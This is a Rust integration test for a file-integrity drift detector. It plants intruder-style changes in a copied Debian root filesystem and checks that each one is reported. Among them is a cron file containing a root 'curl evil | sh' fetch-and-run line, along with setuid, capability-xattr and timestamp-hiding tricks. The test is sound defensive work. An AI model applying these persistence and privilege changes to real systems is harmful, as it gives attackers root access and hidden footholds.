//! Baseline and check on a real Debian root filesystem (debootstrap, cached), with the drifts
//! an intruder or a hand-fixing admin leaves behind.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::fs::{self, File, FileTimes};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::time::{Duration, Instant};

use driftwatch_tests::{
    Keys, baseline_create, check_json, debian, finding, findings, require_root,
};

/// Waits until files written at `since` are older than the scan cache's racy window, so the
/// cache may trust them.
fn settle(since: Instant) {
    let wait = Duration::from_millis(2_500).saturating_sub(since.elapsed());
    std::thread::sleep(wait);
}

fn merkle_root(baseline: &Path) -> String {
    let r = driftwatch_tests::baseline_show_json(baseline, &[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    r.json()["merkle_root"].as_str().unwrap().to_string()
}

#[test]
fn real_debian_root_drifts_are_reported_exactly() {
    if !require_root("debootstrap, chown and security.* xattrs") {
        return;
    }
    let base = debian::minbase();
    let copy = debian::copy(&base);
    let copied_at = Instant::now();
    let root = copy.path();
    let keys = Keys::new();
    let work = tempfile::tempdir().unwrap();
    let bl = work.path().join("image.dwb");
    let state = work.path().join("state");

    let r = baseline_create(root, &bl, &keys, &[]);
    assert_eq!(r.code, 0, "baseline create failed: {}", r.stderr);
    // Baselining an unchanged tree again gives the same Merkle root.
    let bl2 = work.path().join("again.dwb");
    assert_eq!(baseline_create(root, &bl2, &keys, &[]).code, 0);
    assert_eq!(merkle_root(&bl), merkle_root(&bl2));

    // The untouched root is clean: without a cache, with an empty cache, with a warm cache.
    settle(copied_at);
    let r = check_json(root, &bl, &keys, None, &[]);
    assert_eq!(
        r.code,
        0,
        "untouched root not clean:\n{}\n{}",
        r.stdout_str(),
        r.stderr
    );
    for round in 0..2 {
        let r = check_json(root, &bl, &keys, Some(&state), &[]);
        assert_eq!(
            r.code,
            0,
            "untouched root not clean with cache (round {round}):\n{}",
            r.stdout_str()
        );
        let hits = r.json()["summary"]["scan"]["cache_hits"].as_u64().unwrap();
        if round == 1 {
            let hashed = r.json()["summary"]["scan"]["files_hashed"]
                .as_u64()
                .unwrap();
            assert!(
                hits > 1000 && hashed == 0,
                "warm cache not used: {hits} hits, {hashed} hashed"
            );
        }
    }

    // --- the drifts ---
    // 1. Content changed, same size, old mtime restored (only ctime betrays it).
    let issue = root.join("etc/issue");
    let before = fs::metadata(&issue).unwrap();
    let mut text = fs::read(&issue).unwrap();
    text[0] = if text[0] == b'X' { b'Y' } else { b'X' };
    fs::write(&issue, &text).unwrap();
    File::options()
        .write(true)
        .open(&issue)
        .unwrap()
        .set_times(
            FileTimes::new()
                .set_modified(before.modified().unwrap())
                .set_accessed(before.accessed().unwrap()),
        )
        .unwrap();
    assert_eq!(
        fs::metadata(&issue).unwrap().modified().unwrap(),
        before.modified().unwrap()
    );
    // 2. setuid added.
    fs::set_permissions(root.join("usr/bin/env"), fs::Permissions::from_mode(0o4755)).unwrap();
    // 3. Owner changed.
    std::os::unix::fs::chown(root.join("usr/bin/ls"), Some(1000), Some(1000)).unwrap();
    // 4. New file under /etc/cron.d.
    fs::write(
        root.join("etc/cron.d/backdoor"),
        "* * * * * root curl evil | sh\n",
    )
    .unwrap();
    // 5. A binary deleted.
    fs::remove_file(root.join("usr/bin/yes")).unwrap();
    // 6. A symlink retargeted.
    let osr = root.join("etc/os-release");
    assert!(fs::symlink_metadata(&osr).unwrap().file_type().is_symlink());
    fs::remove_file(&osr).unwrap();
    symlink("/tmp/fake-os-release", &osr).unwrap();
    // 7. A capability xattr added (cap_net_raw+ep, VFS_CAP_REVISION_2).
    let cap: [u8; 20] = [
        1, 0, 0, 2, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
    ];
    xattr::set(root.join("usr/bin/cat"), "security.capability", &cap).unwrap();
    // 8. A directory made world-writable.
    fs::set_permissions(
        root.join("usr/local/bin"),
        fs::Permissions::from_mode(0o777),
    )
    .unwrap();
    // 9. A file with a non-UTF-8 name.
    let weird = b"/usr/local/bin/\xff\xfe-not-utf8";
    fs::write(
        root.join(std::ffi::OsStr::from_bytes(&weird[1..])),
        b"#!/bin/sh\n",
    )
    .unwrap();
    // 10. A FIFO.
    nix::unistd::mkfifo(
        &root.join("etc/evil.fifo"),
        nix::sys::stat::Mode::from_bits_truncate(0o644),
    )
    .unwrap();

    let mut expected = vec![
        finding(b"/etc/issue", "modified", &["content"]),
        finding(b"/usr/bin/env", "modified", &["mode"]),
        finding(b"/usr/bin/ls", "modified", &["gid", "uid"]),
        finding(b"/etc/cron.d/backdoor", "added", &[]),
        finding(b"/usr/bin/yes", "removed", &[]),
        finding(b"/etc/os-release", "modified", &["target"]),
        finding(b"/usr/bin/cat", "modified", &["xattr security.capability"]),
        finding(b"/usr/local/bin", "modified", &["mode"]),
        finding(weird, "added", &[]),
        finding(b"/etc/evil.fifo", "added", &[]),
    ];
    expected.sort();

    // With the warm cache (the restored mtime must not fool it), with --full, and without a
    // cache: exactly these findings, exit 1.
    for extra in [&[][..], &["--full"][..]] {
        let r = check_json(root, &bl, &keys, Some(&state), extra);
        assert_eq!(r.code, 1, "{extra:?}: {}\n{}", r.stdout_str(), r.stderr);
        assert_eq!(findings(&r.json()), expected, "{extra:?}");
    }
    let r = check_json(root, &bl, &keys, None, &[]);
    assert_eq!(r.code, 1);
    let report = r.json();
    assert_eq!(findings(&report), expected);

    // Severities: privilege gains are critical, cron is critical, the rest follows the policy.
    let sev = |p: &str| {
        report["violations"]
            .as_array()
            .unwrap()
            .iter()
            .find(|v| v["path"]["text"] == p)
            .map(|v| v["severity"].as_str().unwrap().to_string())
            .unwrap()
    };
    assert_eq!(sev("/usr/bin/env"), "critical");
    assert_eq!(sev("/usr/bin/cat"), "critical");
    assert_eq!(sev("/etc/cron.d/backdoor"), "critical");
    assert_eq!(sev("/usr/local/bin"), "high");
    // A file of a package that did not change is gone: the loudest case.
    assert_eq!(sev("/usr/bin/yes"), "critical");
    let yes = report["violations"]
        .as_array()
        .unwrap()
        .iter()
        .find(|v| v["path"]["text"] == "/usr/bin/yes")
        .unwrap();
    assert_eq!(yes["packages"], serde_json::json!(["coreutils:amd64"]));
    assert_eq!(yes["class"], "unexplained");
    assert!(report["package_drift"].as_array().unwrap().is_empty());

    // The human report names every path, escaped, and the before/after values.
    let r = driftwatch_tests::check_text(root, &bl, &keys);
    assert_eq!(r.code, 1);
    let text = r.stdout_str();
    assert!(
        text.contains("/usr/local/bin/\\xff\\xfe-not-utf8"),
        "{text}"
    );
    assert!(
        text.contains("mode: 0755 (rwxr-xr-x) -> 4755 (rwsr-xr-x)"),
        "{text}"
    );
    assert!(
        text.contains("target: ../usr/lib/os-release -> /tmp/fake-os-release"),
        "{text}"
    );
    assert!(text.contains("DRIFT: 10 violation(s)"), "{text}");
}
